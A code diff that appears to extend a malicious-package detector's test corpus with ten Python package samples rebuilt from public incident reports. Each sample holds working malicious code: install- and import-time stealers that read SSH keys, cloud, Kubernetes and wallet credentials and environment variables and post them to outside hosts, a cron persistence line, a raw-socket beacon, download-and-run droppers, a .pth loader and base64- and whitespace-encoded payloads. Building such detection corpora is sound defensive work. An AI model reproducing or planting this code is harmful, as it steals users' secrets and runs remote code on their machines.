@@ -977,6 +977,266 @@ SAMPLES = [
      "environment variables posted over http.client from a thread started on import",
      "Check Point Research, CloudGuard Spectral's ten PyPI packages (2022)",
      ["exfiltration", "credential-theft", "import-time"]),
+
+    # --- Round 6 (written and measured before that round's work; weighted to import-time
+    # stealers and exfiltration). Sources: public issue threads where the malicious code was
+    # reported and described; each sample is re-written from the description, not copied.
+
+    # XanaduAI/MrMustard issue #656 (2026): release 0.7.4 uploaded without a matching tag; a
+    # function disguised as a TensorFlow compatibility check, called at the bottom of the
+    # package's __init__, collects SSH private keys, the AWS credentials file, the Kubernetes
+    # config, environment variables, host and user names, and posts them to a metrics-looking
+    # HTTPS endpoint; it also adds a cron line so the collector runs again every 15 minutes.
+    ("demo-mrmustard", "wheel", {"demo_mrmustard/__init__.py":
+        "import os, json, glob, socket, getpass, subprocess, urllib.request\n"
+        "__version__ = '0.7.4'\n"
+        "from .physics import *  # noqa\n"
+        "def _check_tf_compatibility():\n"
+        "    home = os.path.expanduser('~')\n"
+        "    found = {}\n"
+        "    for rel in ('.aws/credentials', '.kube/config'):\n"
+        "        p = os.path.join(home, rel)\n"
+        "        if os.path.isfile(p):\n"
+        "            with open(p) as f:\n                found[rel] = f.read()\n"
+        "    for p in glob.glob(os.path.join(home, '.ssh', 'id_*')):\n"
+        "        with open(p) as f:\n            found[os.path.basename(p)] = f.read()\n"
+        "    report = {'host': socket.gethostname(), 'user': getpass.getuser(), 'env': dict(os.environ), 'files': found}\n"
+        "    req = urllib.request.Request('https://metrics.tf-compat-check.energy/v1/collect',\n"
+        "                                 data=json.dumps(report).encode(), headers={'Content-Type': 'application/json'})\n"
+        "    try:\n        urllib.request.urlopen(req, timeout=5)\n    except Exception:\n        pass\n"
+        "    line = '*/15 * * * * python3 -c \"import demo_mrmustard\"\\n'\n"
+        "    subprocess.run(['bash', '-c', '(crontab -l 2>/dev/null; echo \\'' + line.strip() + '\\') | crontab -'], capture_output=True)\n"
+        "_check_tf_compatibility()\n",
+        "demo_mrmustard/physics.py": "def fock(n):\n    return [0] * n\n"},
+     "__init__ collects SSH keys, cloud and cluster credentials and the environment, posts them, adds a cron line",
+     "XanaduAI/MrMustard issue #656, malicious 0.7.4 release (2026)",
+     ["credential-theft", "exfiltration", "import-time", "persistence"]),
+
+    # pypi/warehouse issue #7195 (2020, req-tools / reols): on import the module resolves a
+    # dynamic-DNS host, keeps retrying a raw TCP connection to it, and sends the host name,
+    # OS name and release and the user name as the first message of a remote-control session.
+    ("demo-req-tools", "wheel", {"demo_req_tools/__init__.py":
+        "import os, socket, time, platform, threading\n"
+        "_HOST, _PORT = 'securedmaininfo5.zapto.org', 3000\n"
+        "def _connect():\n"
+        "    while True:\n"
+        "        try:\n"
+        "            s = socket.socket()\n"
+        "            s.connect((socket.gethostbyname(_HOST), _PORT))\n"
+        "            break\n"
+        "        except socket.error:\n"
+        "            time.sleep(5)\n"
+        "    info = socket.gethostname() + '`,' + platform.system() + ' ' + platform.release() + '`,' + os.environ.get('USERNAME', '')\n"
+        "    s.send(info.encode())\n"
+        "    return s\n"
+        "threading.Thread(target=_connect, daemon=True).start()\n"
+        "def get(url, **kw):\n    raise NotImplementedError\n"},
+     "import starts a thread that connects a raw socket to a dynamic-DNS host and sends host, OS and user",
+     "pypi/warehouse issue #7195, req-tools / reols (2020)",
+     ["exfiltration", "beacon", "import-time"]),
+
+    # pypi/warehouse issue #3948 (2018, pysprak / mateplotlib / numipy / openvc and other
+    # typosquats): setup.py gathers user name, host name, platform string, locale and the
+    # machine's outward IP (learned by "connecting" a UDP socket) and sends them in a query
+    # string to a collection server while the package installs.
+    ("demo-pysprak", "sdist", {"setup.py":
+        "import os, socket, getpass, platform, locale\n"
+        "from urllib.request import urlopen\nfrom urllib.parse import urlencode\n"
+        "from setuptools import setup\n"
+        "def checkVersion():\n"
+        "    user_name = getpass.getuser()\n"
+        "    hostname = socket.gethostname()\n"
+        "    os_version = platform.platform()\n"
+        "    language = ':'.join(str(x) for x in locale.getdefaultlocale())\n"
+        "    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
+        "    s.connect(('8.8.8.8', 53)); ip = s.getsockname()[0]; s.close()\n"
+        "    vid = '###'.join([user_name, hostname, os_version, ip, language, 'pysprak'])\n"
+        "    try:\n"
+        "        urlopen('http://track.pysprak-stats.example.net/?' + urlencode({'v': vid}), timeout=3)\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "checkVersion()\n"
+        "setup(name='demo-pysprak', version='0.1', packages=[])\n"},
+     "setup.py sends user, host, platform, locale and local IP in a query string at install",
+     "pypi/warehouse issue #3948, typosquats of popular libraries (2018)",
+     ["exfiltration", "beacon"]),
+
+    # mistralai/client-python issue #523 (2026): a compromised SDK release whose client
+    # package __init__, on Linux and once per process tree, downloads a .pyz from a raw IP with
+    # curl (certificate checks off) into /tmp and starts it with the running interpreter,
+    # detached, silenced, with the caller's environment.
+    ("demo-mistral-pyz", "wheel", {"demo_mistral/client/__init__.py":
+        "import sys as _sys\nimport subprocess as _sub\nimport os as _os\n"
+        "from .sdk import Client  # noqa\n"
+        "def _run_background_task():\n"
+        "    if not _sys.platform.startswith('linux') or _os.environ.get('DEMO_INIT'):\n"
+        "        return\n"
+        "    _os.environ['DEMO_INIT'] = '1'\n"
+        "    _url = 'https://198.51.100.194/transformers.pyz'\n"
+        "    _dest = '/tmp/transformers.pyz'\n"
+        "    try:\n"
+        "        if not _os.path.exists(_dest):\n"
+        "            _sub.run(['curl', '-k', '-L', '-s', _url, '-o', _dest], timeout=15)\n"
+        "        if _os.path.exists(_dest):\n"
+        "            _sub.Popen([_sys.executable, _dest], stdout=_sub.DEVNULL, stderr=_sub.DEVNULL,\n"
+        "                       start_new_session=True, env=_os.environ.copy())\n"
+        "    except Exception:\n"
+        "        pass\n"
+        "_run_background_task()\n",
+        "demo_mistral/client/sdk.py": "class Client:\n    def __init__(self, api_key=None):\n        self.api_key = api_key\n",
+        "demo_mistral/__init__.py": ""},
+     "client __init__ curls a .pyz from a raw IP into /tmp and runs it detached with the interpreter",
+     "mistralai/client-python issue #523, compromised 2.4.6 (2026)",
+     ["download-run", "import-time", "shady-links"]),
+
+    # google/osv.dev issue #5503 and ossf/malicious-packages PR #1299 (2026, "Hades/Miasma"):
+    # compromised patch releases ship a `<pkg>-setup.pth` whose one line runs on every Python
+    # start: unless a sentinel file exists it downloads a JavaScript runtime from a legitimate
+    # release page, then runs an obfuscated stealer with it that collects environment variables,
+    # .env files, SSH keys and cloud credentials.
+    ("demo-miasma-pth", "wheel", {
+        "demo_miasma-setup.pth":
+            "import os, sys, subprocess; os.path.exists('/tmp/.bun_ran') or subprocess.Popen([sys.executable, '-c', "
+            "'import demo_miasma._rt as r; r.go()'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n",
+        "demo_miasma/_rt.py":
+            "import os, io, zipfile, subprocess, urllib.request\n"
+            "def go():\n"
+            "    open('/tmp/.bun_ran', 'w').close()\n"
+            "    z = urllib.request.urlopen('https://github.com/oven-sh/bun/releases/latest/download/bun-linux-x64.zip').read()\n"
+            "    zipfile.ZipFile(io.BytesIO(z)).extractall('/tmp/.b')\n"
+            "    exe = '/tmp/.b/bun-linux-x64/bun'\n"
+            "    os.chmod(exe, 0o755)\n"
+            "    js = os.path.join(os.path.dirname(__file__), 'index.js')\n"
+            "    subprocess.Popen([exe, js], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)\n",
+        "demo_miasma/index.js":
+            "const e=process.env,f=require('fs'),h=require('os').homedir();"
+            "const d={env:e,ssh:f.existsSync(h+'/.ssh/id_rsa')?f.readFileSync(h+'/.ssh/id_rsa','utf8'):''};"
+            "fetch('https://api.github.com/user/repos',{method:'POST',headers:{authorization:'token '+e.GITHUB_TOKEN},"
+            "body:JSON.stringify({name:'x'+Date.now(),description:Buffer.from(JSON.stringify(d)).toString('base64')})});\n",
+        "demo_miasma/__init__.py": "__version__ = '0.9.120'\n"},
+     ".pth line starts a helper that downloads a JS runtime and runs a bundled stealer with it",
+     "google/osv.dev issue #5503, Hades/Miasma .pth dropper (2026)",
+     ["install-anomaly", "download-run", "import-time", "credential-theft", "exfiltration"]),
+
+    # pypi/legacy issue #644 (2017, the "evilpy" packages squatting caffe, tkinter, pygpu):
+    # setup.py takes the user name, platform.uname() and the public IP (from an IP-echo service)
+    # and POSTs them as JSON to a serverless function endpoint during install.
+    ("demo-evilpy", "sdist", {"setup.py":
+        "import os, json, socket, getpass, platform, hashlib, tempfile\n"
+        "from urllib.request import Request, urlopen\nfrom setuptools import setup\n"
+        "def fun():\n"
+        "    username = getpass.getuser()\n"
+        "    hostinfo = platform.uname()\n"
+        "    marker = os.path.join(tempfile.gettempdir(), hashlib.md5(str(hostinfo).encode()).hexdigest())\n"
+        "    if os.path.exists(marker):\n        return\n"
+        "    open(marker, 'w').close()\n"
+        "    try:\n        ip = urlopen('https://api.ipify.org').read().decode()\n"
+        "    except Exception:\n        ip = socket.gethostname()\n"
+        "    data = {'title': '%s@%s' % (username, ip), 'body': 'host info: %s' % str(hostinfo)}\n"
+        "    urlopen(Request('https://wt-90ab2e5e.run.webtask.io/evilpy', data=json.dumps(data).encode(),\n"
+        "                    headers={'Content-Type': 'application/json'}))\n"
+        "fun()\n"
+        "setup(name='demo-evilpy', version='0.1.0')\n"},
+     "setup.py posts user, uname and public IP as JSON to a serverless endpoint at install",
+     "pypi/legacy issue #644, evilpy squats (2017)",
+     ["exfiltration", "beacon"]),
+
+    # ossf/malicious-packages PR #1437 (2026, dlmm-sdk and a DeFi namesquat group): the same
+    # harvester runs from setup.py's top level at install and again from __init__ on first
+    # import, inside a bare try/except; it reads the Solana CLI keypair and wallet variables
+    # from the environment and POSTs them to a request-inspection endpoint.
+    ("demo-dlmm-sdk", "sdist", {
+        "setup.py":
+            "import os, sys\nsys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))\n"
+            "from setuptools import setup, find_packages\n"
+            "try:\n    import demo_dlmm_sdk._telemetry as t; t.report()\nexcept Exception:\n    pass\n"
+            "setup(name='demo-dlmm-sdk', version='0.3.1', packages=find_packages())\n",
+        "demo_dlmm_sdk/_telemetry.py":
+            "import os, json, socket, requests\n"
+            "def report():\n"
+            "    data = {'host': socket.gethostname()}\n"
+            "    kp = os.path.expanduser('~/.config/solana/id.json')\n"
+            "    if os.path.exists(kp):\n        data['keypair'] = open(kp).read()\n"
+            "    data.update({k: v for k, v in os.environ.items() if any(w in k for w in ('PRIVATE', 'SECRET', 'MNEMONIC', 'RPC'))})\n"
+            "    requests.post('https://webhook.site/2f6c1a4e-8d1b-4c3e-9a57-0b3d7e6f9a10', json=data, timeout=5)\n",
+        "demo_dlmm_sdk/__init__.py":
+            "try:\n    from . import _telemetry\n    _telemetry.report()\nexcept Exception:\n    pass\n"
+            "class DLMM:\n    pass\n"},
+     "install and first import post the Solana keypair and wallet variables to a request bin",
+     "ossf/malicious-packages PR #1437, DeFi namesquat credential harvester (2026)",
+     ["credential-theft", "exfiltration", "import-time"]),
+
+    # pypi/warehouse issue #10032 (2021, infra-framework / onlylearn): at install the package
+    # reads the OS version, the user's id, the hosts file and the network addresses and sends
+    # them to a server.
+    ("demo-infra-framework", "sdist", {"setup.py":
+        "import os, json, subprocess, requests\nfrom setuptools import setup\n"
+        "from setuptools.command.install import install\n"
+        "class Collect(install):\n"
+        "    def run(self):\n"
+        "        info = {\n"
+        "            'os': subprocess.getoutput('uname -a'),\n"
+        "            'id': subprocess.getoutput('id'),\n"
+        "            'hosts': open('/etc/hosts').read(),\n"
+        "            'ip': subprocess.getoutput('hostname -I'),\n"
+        "        }\n"
+        "        try:\n"
+        "            requests.post('http://infra-fw.example-collect.xyz/upload', data=json.dumps(info), timeout=4)\n"
+        "        except Exception:\n"
+        "            pass\n"
+        "        install.run(self)\n"
+        "setup(name='demo-infra-framework', version='1.0.2', cmdclass={'install': Collect})\n"},
+     "install hook sends uname, id, the hosts file and the IP addresses to a server",
+     "pypi/warehouse issue #10032, infra-framework / onlylearn (2021)",
+     ["exfiltration", "beacon"]),
+
+    # pypi/warehouse issue #11025 (2022, aiohttp-proxy-connector / aiohttp-socks-connector):
+    # setup.py writes a base64-encoded Python stealer into a __pycache__ folder under the
+    # user's temp directory with a bytecode-looking name and runs it with the interpreter.
+    ("demo-aiohttp-connector", "sdist", {"setup.py":
+        "import sys\nfrom base64 import b64decode as b64\nfrom os import chdir, environ, makedirs\n"
+        "from os.path import join\nfrom subprocess import call\nfrom setuptools import setup\n"
+        "def run():\n"
+        "    executable = sys.executable.replace('\\\\', '\\\\\\\\')\n"
+        "    LOCAL = environ.get('USERPROFILE', environ.get('HOME', '.'))\n"
+        "    TEMP = join(LOCAL, 'appdata', 'local', 'temp')\n"
+        "    main_dir = join(TEMP, '__pycache__')\n"
+        "    makedirs(main_dir, exist_ok=True)\n"
+        "    with open(join(main_dir, 'main.cpython-39.py'), 'w', encoding='utf8') as f:\n"
+        "        f.write(b64('" + B64("import os,json,urllib.request\nurllib.request.urlopen('http://198.51.100.170/', json.dumps(dict(os.environ)).encode())\n") + "').decode())\n"
+        "    chdir(main_dir)\n"
+        "    call(f'{executable} main.cpython-39.py', shell=True)\n"
+        "run()\n"
+        "setup(name='demo-aiohttp-connector', version='0.2.4')\n"},
+     "setup.py writes a base64 stealer into temp/__pycache__ under a bytecode name and runs it",
+     "pypi/warehouse issue #11025, aiohttp-proxy-connector (2022)",
+     ["decode-run", "download-run", "exfiltration"]),
+
+    # Delgan/loguru issue #1363 (2025, "loquru"): a look-alike of a logging library whose
+    # logger module ends in a long string made only of tabs and spaces; a helper turns the
+    # whitespace into bytes (one bit per character) and the core class's constructor, run when
+    # the module is imported, executes the result, which fetches the next stage.
+    ("demo-loquru", "wheel", {
+        "demo_loquru/_logger.py":
+            "import sys\n"
+            "def _get_version_entity(s):\n"
+            "    bits = ''.join('1' if c == '\\t' else '0' for c in s)\n"
+            "    return bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode()\n"
+            "class Core:\n"
+            "    def __init__(self):\n"
+            "        self.handlers = {}\n"
+            "        exec(_get_version_entity(singleton), {})\n"
+            "class Logger:\n"
+            "    def __init__(self, core):\n        self._core = core\n"
+            "singleton = '" + "".join(
+                "\\t" if b == "1" else " "
+                for ch in "import urllib.request as u;exec(u.urlopen('https://loquru.example-guru.net/version/revision').read())"
+                for b in format(ord(ch), "08b")) + "'\n",
+        "demo_loquru/__init__.py":
+            "from ._logger import Core as _Core, Logger as _Logger\nlogger = _Logger(_Core())\n"},
+     "whitespace-only string decoded to code and exec'd by a class constructor run on import; fetches a stage",
+     "Delgan/loguru issue #1363, loquru look-alike (2025)",
+     ["hidden-code", "decode-run", "download-run", "import-time"]),
 ]
 
 # The samples added by each round that marks them (bench/recall.py prints their count apart,
@@ -988,3 +1248,6 @@ ROUNDS = {name: "round 4" for name in (
 ROUNDS.update({name: "round 5" for name in (
     "demo-sentinelsneak", "demo-clw-overwrite", "demo-np6-sideload", "demo-pondrat", "demo-sympy-dev",
     "demo-pyg-utils", "demo-colourfool", "demo-maratlib", "demo-pyrologin", "demo-free-net-vpn")})
+ROUNDS.update({name: "round 6" for name in (
+    "demo-mrmustard", "demo-req-tools", "demo-pysprak", "demo-mistral-pyz", "demo-miasma-pth", "demo-evilpy",
+    "demo-dlmm-sdk", "demo-infra-framework", "demo-aiohttp-connector", "demo-loquru")})
